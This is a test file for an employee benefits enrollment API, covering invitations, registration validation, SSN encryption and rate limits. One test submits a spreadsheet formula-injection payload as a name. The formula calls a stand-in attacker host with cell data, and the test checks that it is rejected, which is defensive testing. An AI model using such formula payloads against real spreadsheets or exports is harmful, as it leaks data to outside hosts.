import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { daysFrom, formatDate, todayUtc } from "../../lib/date-rules";
import { createTestApp, type TestApp } from "../../test/api";
import {
  as,
  createEnrollmentWithCensus,
  expectNothing as expectNothingOf,
  type Fixture,
  outboxTo,
  tokenFrom,
} from "../../test/employee-fixtures";
import { adminHeaders } from "../../test/employers";
import { inviteDeadline } from "./dates";
import { EMAILS_FROM_ONE_ACCOUNT, EMAILS_TO_ONE_EMPLOYEE } from "./index";
import { messages, OTHER_EMAIL_MESSAGE, SEND_BEFORE_SUBMIT_MESSAGE } from "./model";
import { SUBMITTED_MESSAGE } from "./service";

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ PUBLIC_URL: "https://benefits.example" });
});
afterAll(() => t.close());

const databaseBytes = () =>
  Buffer.concat([t.config.databasePath, `${t.config.databasePath}-wal`].filter(existsSync).map((f) => readFileSync(f)));
const inviteOf = (id: number) =>
  t.database.sqlite
    .query("select invite_status as status, invite_token_hash as hash, invite_expires_at as expiresAt from census_employees where id = ?")
    .get(id) as {
    status: string;
    hash: string | null;
    expiresAt: number | null;
  };
const complete = {
  firstName: "Maria",
  lastName: "Garcia",
  email: "maria.g@example.com",
  phone: "(512) 555-0142",
  dateOfBirth: "1988-04-12",
  ssn: "",
  address: "500 Congress Ave",
  city: "Austin",
  state: "TX",
  zipCode: "78701",
  coverageLevel: "individualPlus1",
  healthPlanId: "gold",
  acceptTerms: true,
};

describe("invitations", () => {
  let f: Fixture;
  let other: Fixture;
  beforeAll(async () => {
    f = await createEnrollmentWithCensus(t.database.db);
    other = await createEnrollmentWithCensus(t.database.db);
  });

  test("nothing goes to employees before the enrollment is submitted: invitations and notices answer 409 and send nothing", async () => {
    const draft = await createEnrollmentWithCensus(t.database.db, { submitted: false });
    for (const path of ["invitations", `employees/${draft.employeeIds[0]}/invitation`, "notices"]) {
      const res = await t.request("POST", `/api/enrollment/${draft.enrollmentId}/${path}`, as(draft.ownerCookie));
      expect({ path, status: res.status, body: await res.json() }).toEqual({
        path,
        status: 409,
        body: { message: SEND_BEFORE_SUBMIT_MESSAGE },
      });
    }
    const sent = t.database.sqlite
      .query("select count(*) as n from outbox o join census_employees c on c.email = o.to_address where c.enrollment_id = ?")
      .get(draft.enrollmentId) as { n: number };
    expect(sent.n).toBe(0);
  });

  test("listing needs a session: 401", async () => {
    const res = await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`);
    expect(res.status).toBe(401);
  });

  test("sending, resending and revoking need a session too: 401, nothing sent or changed", async () => {
    for (const [method, path] of [
      ["POST", `/api/enrollment/${f.enrollmentId}/invitations`],
      ["POST", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`],
      ["DELETE", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`],
    ]) {
      const res = await t.request(method, path);
      expect({ method, path, status: res.status }).toEqual({ method, path, status: 401 });
      expect(Object.keys(await res.json())).toEqual(["message"]);
    }
    expect(inviteOf(f.employeeIds[0]).status).toBe("not_sent");
    expect((t.database.sqlite.query("select count(*) n from outbox").get() as { n: number }).n).toBe(0);
  });

  test("a malformed enrollment or employee id is 400 naming the id", async () => {
    const employee = f.employeeIds[0];
    const attempts: [string, string, Record<string, string>][] = [
      ["GET", `/api/enrollment/abc/employees`, { enrollmentId: "Invalid enrollment ID" }],
      ["POST", `/api/enrollment/0/invitations`, { enrollmentId: "Invalid enrollment ID" }],
      ["POST", `/api/enrollment/abc/employees/${employee}/invitation`, { enrollmentId: "Invalid enrollment ID" }],
      ["POST", `/api/enrollment/${f.enrollmentId}/employees/1.5/invitation`, { employeeId: "Invalid employee ID" }],
      ["DELETE", `/api/enrollment/-1/employees/${employee}/invitation`, { enrollmentId: "Invalid enrollment ID" }],
      ["DELETE", `/api/enrollment/${f.enrollmentId}/employees/x/invitation`, { employeeId: "Invalid employee ID" }],
      ["GET", `/api/employee-registration/abc?invite=not-a-real-token-at-all-000000`, { enrollmentId: "Invalid enrollment ID" }],
      [
        "POST",
        `/api/employee-registration/99999999999999999?invite=not-a-real-token-at-all-000000`,
        { enrollmentId: "Invalid enrollment ID" },
      ],
    ];
    for (const [method, path, errors] of attempts) {
      const res = await t.request(method, path, {
        ...as(f.ownerCookie),
        ...(method === "POST" && path.includes("registration") ? { json: {} } : {}),
      });
      expect({ method, path, status: res.status }).toEqual({ method, path, status: 400 });
      expect((await res.json()).errors).toEqual(errors);
    }
    expect(inviteOf(employee).status).toBe("not_sent");
  });

  test("another business's owner can neither see nor act on these employees: 404", async () => {
    const attempts: [string, string][] = [
      ["GET", `/api/enrollment/${f.enrollmentId}/employees`],
      ["POST", `/api/enrollment/${f.enrollmentId}/invitations`],
      ["POST", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`],
      ["DELETE", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`],
      // Their own enrollment with someone else's employee id.
      ["POST", `/api/enrollment/${other.enrollmentId}/employees/${f.employeeIds[0]}/invitation`],
    ];
    for (const [method, path] of attempts) {
      const res = await t.request(method, path, as(other.ownerCookie));
      expect({ method, path, status: res.status }).toEqual({ method, path, status: 404 });
      expect(JSON.stringify(await res.json())).not.toContain("Garcia");
    }
    expect(inviteOf(f.employeeIds[0]).status).toBe("not_sent");
    const { n } = t.database.sqlite.query("select count(*) n from outbox").get() as { n: number };
    expect(n).toBe(0);
  });

  test("revoking an employee who was never invited is refused: 409, nothing changes", async () => {
    const res = await t.request("DELETE", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`, as(f.ownerCookie));
    expect(res.status).toBe(409);
    expect(await res.json()).toEqual({ message: "This employee has not been invited yet." });
    expect(inviteOf(f.employeeIds[0])).toEqual({ status: "not_sent", hash: null, expiresAt: null });
  });

  test("the owner sees each employee with class, allowance and 'not sent'", async () => {
    const res = await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`, as(f.ownerCookie));
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(
      body.employees.map((e: { lastName: string; className: string; allowance: number; inviteStatus: string }) => [
        e.lastName,
        e.className,
        e.allowance,
        e.inviteStatus,
      ]),
    ).toEqual([
      ["Garcia", "Full-time", 525, "not_sent"],
      ["Lee", "Part-time", 200, "not_sent"],
    ]);
  });

  test("sending to all not yet invited stores only a hash and emails the link, allowance and deadline", async () => {
    const res = await t.request("POST", `/api/enrollment/${f.enrollmentId}/invitations`, as(f.ownerCookie));
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(body.sent).toBe(2);
    expect(body.employees.map((e: { inviteStatus: string }) => e.inviteStatus)).toEqual(["sent", "sent"]);
    const [maria] = body.employees;
    const mails = outboxTo(t, maria.email);
    expect(mails).toHaveLength(1);
    expect(mails[0].kind).toBe("employee_invitation");
    expect(mails[0].text).toContain("$525.00");
    expect(mails[0].text).toMatch(/Please register by [A-Z][a-z]+ \d{1,2}, \d{4}/);
    const token = tokenFrom(t, maria.email);
    expect(token.length).toBeGreaterThanOrEqual(22); // ≥ 128 bits in base64url
    const stored = inviteOf(f.employeeIds[0]);
    expect(stored.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(stored.hash).not.toContain(token);
    // Effective date + 60 days, until that day is over everywhere (noon UTC the day after).
    const effective = (
      t.database.sqlite.query("select effective_date d from enrollments where id = ?").get(f.enrollmentId) as { d: string }
    ).d;
    expect(stored.expiresAt).toBe(Date.parse(`${effective}T12:00:00Z`) + 61 * 86_400_000);
    // Nobody is left to invite: a second call sends nothing.
    const again = await (await t.request("POST", `/api/enrollment/${f.enrollmentId}/invitations`, as(f.ownerCookie))).json();
    expect(again.sent).toBe(0);
    expect(outboxTo(t, maria.email)).toHaveLength(1);
  });

  test("an employer whose plan includes indemnity benefits (Advantage): the registration says so, for its sample paycheck", async () => {
    const advantage = await createEnrollmentWithCensus(t.database.db, { planId: 2 });
    await t.request("POST", `/api/enrollment/${advantage.enrollmentId}/invitations`, as(advantage.ownerCookie));
    const list = await (await t.request("GET", `/api/enrollment/${advantage.enrollmentId}/employees`, as(advantage.ownerCookie))).json();
    const token = tokenFrom(t, list.employees[0].email);
    const view = await (await t.request("GET", `/api/employee-registration/${advantage.enrollmentId}?invite=${token}`)).json();
    expect(view.planIncludesIndemnity).toBe(true);
  });

  test("opening marks the invite opened and answers the census prefill, class allowance and plan start", async () => {
    const list = await (await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`, as(f.ownerCookie))).json();
    const maria = list.employees[0];
    const token = tokenFrom(t, maria.email);
    const res = await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${token}`);
    expect(res.status).toBe(200);
    const view = await res.json();
    expect(view.prefill).toEqual({
      firstName: "Maria",
      lastName: "Garcia",
      email: maria.email,
      phone: "512-555-0142",
      dateOfBirth: "1988-04-12",
      zipCode: "78704",
    });
    expect(view.className).toBe("Full-time");
    expect(view.allowance).toBe(525);
    expect(view.allowanceIsFallback).toBe(false);
    // The fixture's plan is Essential, which has no indemnity benefits: no sample paycheck counting on them.
    expect(view.planIncludesIndemnity).toBe(false);
    const effective = (
      t.database.sqlite.query("select effective_date d from enrollments where id = ?").get(f.enrollmentId) as { d: string }
    ).d;
    expect(view.planStartDate).toBe(effective);
    expect(view.coverageStartDate).toBe(effective);
    expect(view.deadline).toBe(inviteDeadline(effective, todayUtc()));
    expect(view.registration).toBeNull();
    expect(inviteOf(f.employeeIds[0]).status).toBe("opened");
  });

  test("an invalid, wrong-enrollment, expired or revoked invite gets 404 and no data", async () => {
    const list = await (await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`, as(f.ownerCookie))).json();
    const sam = list.employees[1];
    const token = tokenFrom(t, sam.email);
    const expectNothing = (res: Response) => expectNothingOf(res, /Lee|Acme|Part-time/);
    await expectNothing(await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=not-a-real-token-at-all-000000`));
    await expectNothing(await t.request("GET", `/api/employee-registration/${f.enrollmentId}`));
    await expectNothing(await t.request("GET", `/api/employee-registration/${other.enrollmentId}?invite=${token}`));
    await expectNothing(
      await t.request("POST", `/api/employee-registration/${f.enrollmentId}`, {
        json: { invite: "nope-nope-nope-nope-nope", firstName: "Sam" },
      }),
    );

    // Expired.
    t.database.sqlite.query("update census_employees set invite_expires_at = ? where id = ?").run(Date.now() - 1000, f.employeeIds[1]);
    await expectNothing(await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${token}`));

    // Resend: a new link works and the old one does not.
    const resend = await t.request("POST", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[1]}/invitation`, as(f.ownerCookie));
    expect(resend.status).toBe(200);
    const fresh = tokenFrom(t, sam.email);
    expect(fresh).not.toBe(token);
    expect(inviteOf(f.employeeIds[1]).status).toBe("sent");
    await expectNothing(await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${token}`));
    expect((await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${fresh}`)).status).toBe(200);

    // Revoked.
    const revoke = await t.request(
      "DELETE",
      `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[1]}/invitation`,
      as(f.ownerCookie),
    );
    expect(revoke.status).toBe(200);
    expect(inviteOf(f.employeeIds[1])).toEqual({ status: "revoked", hash: null, expiresAt: null });
    await expectNothing(await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${fresh}`));
    await expectNothing(
      await t.request("POST", `/api/employee-registration/${f.enrollmentId}?invite=${fresh}`, { json: { firstName: "Sam" } }),
    );
  });

  test("an admin may list; an unknown enrollment is 404", async () => {
    const res = await t.request("GET", `/api/enrollment/${other.enrollmentId}/employees`, { headers: await adminHeaders(t) });
    expect(res.status).toBe(200);
    expect((await t.request("GET", `/api/enrollment/999999/employees`, as(f.ownerCookie))).status).toBe(404);
  });
});

describe("registration through the invite", () => {
  let f: Fixture;
  let token: string;
  let email: string;
  beforeAll(async () => {
    f = await createEnrollmentWithCensus(t.database.db);
    const res = await t.request("POST", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`, as(f.ownerCookie));
    email = (await res.json()).employees[0].email;
    token = tokenFrom(t, email);
    // Four digits that appear nowhere in the files yet (random hashes and tokens hold digits
    // too), so finding them later can only mean the SSN was written in clear.
    do complete.ssn = String(1000 + Math.floor(Math.random() * 9000));
    while (databaseBytes().includes(complete.ssn));
  });
  const save = (json: Record<string, unknown>) =>
    t.request("POST", `/api/employee-registration/${f.enrollmentId}`, { json: { invite: token, ...json } });

  test("each field answers its spec message", async () => {
    const bad = {
      firstName: "M",
      lastName: "G",
      email: "maria-at-example",
      phone: "555-0142",
      dateOfBirth: "not a date",
      ssn: "123456789",
      address: "1 A",
      city: "A",
      state: "T",
      zipCode: "787",
      coverageLevel: "couple",
      healthPlanId: "diamond",
      acceptTerms: false,
    };
    const res = await save(bad);
    expect(res.status).toBe(400);
    const { errors } = await res.json();
    expect(errors).toEqual({ ...messages });
  });

  test("a date of birth that is not a real past day, or an unknown state, is refused", async () => {
    for (const [field, value] of [
      ["dateOfBirth", "2001-02-30"],
      ["dateOfBirth", "2999-01-01"],
      ["state", "ZZ"],
    ]) {
      const res = await save({ [field]: value });
      expect(res.status).toBe(400);
      expect((await res.json()).errors).toEqual({ [field]: messages[field as keyof typeof messages] });
    }
  });

  test("every bad field is named in one answer, the checks a pattern cannot make (a real past day, a state that exists, a name) with the rest", async () => {
    const res = await save({
      firstName: "=1+1",
      lastName: "<b>x</b>",
      dateOfBirth: "1990-02-30",
      state: "ZZ",
      ssn: "12a4",
      acceptTerms: false,
    });
    expect(res.status).toBe(400);
    expect((await res.json()).errors).toEqual({
      firstName: "First name can hold only letters, spaces, hyphens, apostrophes and periods",
      lastName: "Last name can hold only letters, spaces, hyphens, apostrophes and periods",
      dateOfBirth: messages.dateOfBirth,
      state: messages.state,
      ssn: messages.ssn,
      acceptTerms: messages.acceptTerms,
    });
  });

  test("a name that is no name (a formula, a link, markup) is refused: it would reach the employer's email under our name", async () => {
    const res = await save({ firstName: '=HYPERLINK("http://evil.example/?x="&A2,"Click")', lastName: "<b>Kim</b>" });
    expect(res.status).toBe(400);
    expect((await res.json()).errors).toEqual({
      firstName: "First name can hold only letters, spaces, hyphens, apostrophes and periods",
      lastName: "Last name can hold only letters, spaces, hyphens, apostrophes and periods",
    });
  });

  test("the final submit needs every field: the missing ones are named", async () => {
    const res = await save({ submit: true, firstName: "Maria" });
    expect(res.status).toBe(400);
    const { errors } = await res.json();
    // The address is not asked for: it is the invitation's, always known.
    expect(errors).toEqual({
      lastName: messages.lastName,
      phone: messages.phone,
      dateOfBirth: messages.dateOfBirth,
      ssn: messages.ssn,
      address: messages.address,
      city: messages.city,
      state: messages.state,
      zipCode: messages.zipCode,
      coverageLevel: messages.coverageLevel,
      healthPlanId: messages.healthPlanId,
      acceptTerms: messages.acceptTerms,
    });
  });

  test("step-by-step saves, then the submit: stored, registered, confirmed by email, shown to the employer", async () => {
    const { acceptTerms, coverageLevel, healthPlanId, ...typed } = complete;
    // Another address than the invitation's is refused, naming it; the invitation's, in any case, is taken.
    let res = await save(typed);
    expect(res.status).toBe(400);
    expect((await res.json()).errors).toEqual({ email: OTHER_EMAIL_MESSAGE(email) });
    const personal = { ...typed, email: email.toUpperCase() };
    res = await save(personal);
    expect(res.status).toBe(200);
    let view = await res.json();
    expect(view.registration.firstName).toBe("Maria");
    expect(view.registration.ssnMasked).toBe(`•••• ${complete.ssn}`);
    expect(view.registration.submittedAt).toBeNull();
    expect(inviteOf(f.employeeIds[0]).status).toBe("sent");

    res = await save({ coverageLevel });
    expect((await res.json()).registration.coverageLevel).toBe("individualPlus1");
    res = await save({ healthPlanId });
    expect((await res.json()).registration.healthPlanId).toBe("gold");

    // The SSN is not sent again: the one on file counts.
    res = await save({ acceptTerms, submit: true });
    expect(res.status).toBe(200);
    view = await res.json();
    expect(view.registration.submittedAt).not.toBeNull();
    expect(view.registration.termsAcceptedAt).not.toBeNull();
    expect(inviteOf(f.employeeIds[0]).status).toBe("registered");

    const row = t.database.sqlite
      .query("select * from employee_registrations where census_employee_id = ?")
      .get(f.employeeIds[0]) as Record<string, unknown>;
    expect(row).toMatchObject({
      first_name: "Maria",
      last_name: "Garcia",
      email,
      state: "TX",
      coverage_level: "individualPlus1",
      health_plan_id: "gold",
    });
    expect(String(row.ssn_last4_encrypted)).not.toContain(complete.ssn);

    const confirmation = outboxTo(t, email, "employee_registration_confirmation");
    expect(confirmation).toHaveLength(1);
    expect(confirmation[0].text).not.toContain(complete.ssn);
    // It says where to go next: signing in to My benefits, with the site's sign-in page.
    expect(confirmation[0].text).toContain("1. Sign in to My benefits at https://benefits.example/login with this email address");
    expect(confirmation[0].text).toContain("2. Send proof of your individual health coverage");
    // What the allowance is, and until when the invitation's link shows what was submitted.
    expect(confirmation[0].text).toContain("Your allowance is $525.00 a month.");
    expect(confirmation[0].text).toMatch(/personal link from your invitation until [A-Z][a-z]+ \d{1,2}, \d{4}\./);
    // A correction goes through us, the plan's administrator (rulings), not the employer.
    expect(confirmation[0].text).toContain(`To correct something, write to us, the plan's administrator, at ${t.config.contactEmail}.`);

    const list = await (await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`, as(f.ownerCookie))).json();
    expect(list.employees[0].inviteStatus).toBe("registered");
    // The employer sees when and at what coverage level (the allowance's); not the plan shopped for, nor the address.
    expect(list.employees[0].registration).toEqual({ submittedAt: expect.any(String), coverageLevel: "individualPlus1" });
    expect(JSON.stringify(list)).not.toContain(complete.ssn);
    expect(JSON.stringify(list)).not.toContain("1988-04-12");

    // Revoking a completed registration's invite is refused.
    const revoke = await t.request(
      "DELETE",
      `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`,
      as(f.ownerCookie),
    );
    expect(revoke.status).toBe(409);
  });

  test("a draft saved with another address before registrations took only the invitation's shows, saves and confirms the invitation's", async () => {
    const g = await createEnrollmentWithCensus(t.database.db);
    const sent = await t.request("POST", `/api/enrollment/${g.enrollmentId}/employees/${g.employeeIds[0]}/invitation`, as(g.ownerCookie));
    const invited = (await sent.json()).employees.find((e: { id: number }) => e.id === g.employeeIds[0]).email as string;
    const invite = tokenFrom(t, invited);
    const saveFor = (json: Record<string, unknown>) =>
      t.request("POST", `/api/employee-registration/${g.enrollmentId}`, { json: { invite, ...json } });
    expect((await saveFor({ firstName: "Maria" })).status).toBe(200);
    t.database.sqlite
      .query("update employee_registrations set email = 'typo@elsewhere.example' where census_employee_id = ?")
      .run(g.employeeIds[0]);
    const view = await (await t.request("GET", `/api/employee-registration/${g.enrollmentId}?invite=${invite}`)).json();
    expect(view.registration.email).toBe(invited);
    const { acceptTerms, ...rest } = complete;
    expect((await saveFor({ ...rest, email: invited, ssn: "1234" })).status).toBe(200);
    expect((await saveFor({ acceptTerms, submit: true })).status).toBe(200);
    expect(outboxTo(t, "typo@elsewhere.example")).toEqual([]);
    expect(outboxTo(t, invited, "employee_registration_confirmation")).toHaveLength(1);
    const stored = t.database.sqlite.query("select email from employee_registrations where census_employee_id = ?").get(g.employeeIds[0]);
    expect(stored).toEqual({ email: invited });
  });

  test("after the submit the invite only shows what was saved: a change is 409 and nothing moves", async () => {
    const before = outboxTo(t, email).length;
    for (const change of [{ city: "Round Rock" }, { city: "Round Rock", submit: true }, { ssn: "9999" }]) {
      const res = await save(change);
      expect(res.status).toBe(409);
      expect((await res.json()).message).toBe(SUBMITTED_MESSAGE(t.config.contactEmail));
    }
    const stored = t.database.sqlite
      .query("select city from employee_registrations where census_employee_id = ?")
      .get(f.employeeIds[0]) as { city: string };
    expect(stored.city).toBe("Austin");
    expect(outboxTo(t, email)).toHaveLength(before);
    const view = await (await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${token}`)).json();
    expect(view.editable).toBe(false);
    expect(view.registration.city).toBe("Austin");
  });

  test("the database file and its WAL never hold the SSN digits in clear", () => {
    t.database.sqlite.exec("PRAGMA wal_checkpoint(PASSIVE)");
    expect(existsSync(`${t.config.databasePath}-wal`)).toBe(true);
    expect(databaseBytes().includes(complete.ssn)).toBe(false);
    const keyFile = join(t.dir, "data.key");
    expect(statSync(keyFile).mode & 0o777).toBe(0o600);
  });

  test("once the plan is active a submitted registration still cannot change: 409", async () => {
    t.database.sqlite.query("update enrollments set status = 'active' where id = ?").run(f.enrollmentId);
    const res = await save({ city: "Dallas" });
    expect(res.status).toBe(409);
    expect((await res.json()).message).toBe(SUBMITTED_MESSAGE(t.config.contactEmail));
    const view = await (await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${token}`)).json();
    expect(view.editable).toBe(false);
    expect(view.registration.city).toBe("Austin");
  });
});

describe("an employee whose class is not known", () => {
  test("the invitation and the registration state the spec's $400 fallback, flagged as such", async () => {
    const stamp = Date.now();
    const f = await createEnrollmentWithCensus(t.database.db, {
      employees: [{ firstName: "Una", lastName: "Known", email: `una-${stamp}@example.com`, className: "Seasonal" }],
    });
    const res = await t.request("POST", `/api/enrollment/${f.enrollmentId}/invitations`, as(f.ownerCookie));
    expect(res.status).toBe(200);
    const business = (t.database.sqlite.query("select name from businesses where id = ?").get(f.businessId) as { name: string }).name;
    const [mail] = outboxTo(t, `una-${stamp}@example.com`);
    expect(mail.text).toContain(`Your monthly allowance from ${business}: $400.00.`);
    const view = await (
      await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${tokenFrom(t, `una-${stamp}@example.com`)}`)
    ).json();
    expect([view.className, view.allowance, view.allowanceIsFallback]).toEqual(["Seasonal", 400, true]);
    // The employer's list does not pretend to know it.
    const list = await (await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`, as(f.ownerCookie))).json();
    expect(list.employees[0].allowance).toBeNull();
    // Nor does the confirmation of the registration promise it in writing.
    const token = tokenFrom(t, `una-${stamp}@example.com`);
    const submitted = await t.request("POST", `/api/employee-registration/${f.enrollmentId}?invite=${token}`, {
      json: { ...complete, firstName: "Una", lastName: "Known", email: `una-${stamp}@example.com`, ssn: "1234", submit: true },
    });
    expect(submitted.status).toBe(200);
    const [confirmation] = outboxTo(t, `una-${stamp}@example.com`, "employee_registration_confirmation");
    expect(confirmation!.text).toContain("What comes next:");
    expect(confirmation!.text).not.toContain("Your allowance is");
  });
});

describe("two first saves at the same moment", () => {
  test("both are kept in one row; neither fails with a server error", async () => {
    const f = await createEnrollmentWithCensus(t.database.db);
    const sent = await t.request("POST", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[0]}/invitation`, as(f.ownerCookie));
    const token = tokenFrom(t, (await sent.json()).employees[0].email);
    const save = (json: Record<string, unknown>) =>
      t.request("POST", `/api/employee-registration/${f.enrollmentId}`, { json: { invite: token, ...json } });
    const answers = await Promise.all([save({ firstName: "Maria" }), save({ city: "Austin" })]);
    expect(answers.map((r) => r.status)).toEqual([200, 200]);
    const rows = t.database.sqlite
      .query("select first_name, city from employee_registrations where census_employee_id = ?")
      .all(f.employeeIds[0]);
    expect(rows).toEqual([{ first_name: "Maria", city: "Austin" }]);
  });
});

describe("an enrollment whose first invitations have lapsed (a plan that began long ago)", () => {
  test("a new invitation still goes out, valid 60 days from today, and opens the registration, which can be filled in", async () => {
    const f = await createEnrollmentWithCensus(t.database.db, { effectiveDate: "2020-01-01" });
    t.database.sqlite.query("update enrollments set status = 'active' where id = ?").run(f.enrollmentId);
    const res = await t.request("POST", `/api/enrollment/${f.enrollmentId}/invitations`, as(f.ownerCookie));
    expect(res.status).toBe(200);
    const email = (await res.json()).employees[0].email;
    const lastDay = daysFrom(todayUtc(), 60);
    expect(outboxTo(t, email).at(-1)!.text).toContain(`Please register by ${formatDate(lastDay)}.`);
    const invite = tokenFrom(t, email);
    const view = await (await t.request("GET", `/api/employee-registration/${f.enrollmentId}?invite=${invite}`)).json();
    expect(view).toMatchObject({ editable: true, deadline: lastDay, planStartDate: "2020-01-01", coverageStartDate: "2020-01-01" });
    const saved = await t.request("POST", `/api/employee-registration/${f.enrollmentId}`, { json: { invite, city: "Dallas" } });
    expect(saved.status).toBe(200);
    expect(inviteOf(f.employeeIds[0]).status).toBe("opened");
  });
});

describe("how many emails an employer's actions may send", () => {
  test("one employee gets a few a day (then 429 and nothing sent); another account's requests do not use up the count", async () => {
    const f = await createEnrollmentWithCensus(t.database.db);
    const other = await createEnrollmentWithCensus(t.database.db);
    const employeeId = f.employeeIds[0];
    const resend = (cookie: string) =>
      t.request("POST", `/api/enrollment/${f.enrollmentId}/employees/${employeeId}/invitation`, as(cookie));
    // Another employer trying this employee's route gets 404s: nothing was sent, so nothing is counted.
    for (let i = 0; i <= EMAILS_TO_ONE_EMPLOYEE.perMinute; i++) expect((await resend(other.ownerCookie)).status).toBe(404);
    const email = (t.database.sqlite.query("select email from census_employees where id = ?").get(employeeId) as { email: string }).email;
    for (let i = 0; i < EMAILS_TO_ONE_EMPLOYEE.perMinute; i++) expect((await resend(f.ownerCookie)).status).toBe(200);
    const refused = await resend(f.ownerCookie);
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get("retry-after"))).toBeGreaterThan(0);
    expect(outboxTo(t, email, "employee_invitation")).toHaveLength(EMAILS_TO_ONE_EMPLOYEE.perMinute);
    // The notice to the same person is counted with the invitations.
    expect((await t.request("POST", `/api/enrollment/${f.enrollmentId}/employees/${employeeId}/notice`, as(f.ownerCookie))).status).toBe(
      429,
    );
    // A last day recorded for a registered employee emails them too: counted with the rest.
    // Other employees are still reached.
    expect(
      (await t.request("POST", `/api/enrollment/${f.enrollmentId}/employees/${f.employeeIds[1]}/invitation`, as(f.ownerCookie))).status,
    ).toBe(200);
  });

  test("an account's actions that email employees are bounded in all, whatever they are", async () => {
    const f = await createEnrollmentWithCensus(t.database.db);
    const sendNotices = () => t.request("POST", `/api/enrollment/${f.enrollmentId}/notices`, as(f.ownerCookie));
    for (let i = 0; i < EMAILS_FROM_ONE_ACCOUNT.perMinute; i++) expect((await sendNotices()).status).toBe(200);
    expect((await sendNotices()).status).toBe(429);
    expect((await t.request("POST", `/api/enrollment/${f.enrollmentId}/invitations`, as(f.ownerCookie))).status).toBe(429);
    // Reading is not counted.
    expect((await t.request("GET", `/api/enrollment/${f.enrollmentId}/employees`, as(f.ownerCookie))).status).toBe(200);
  });
});
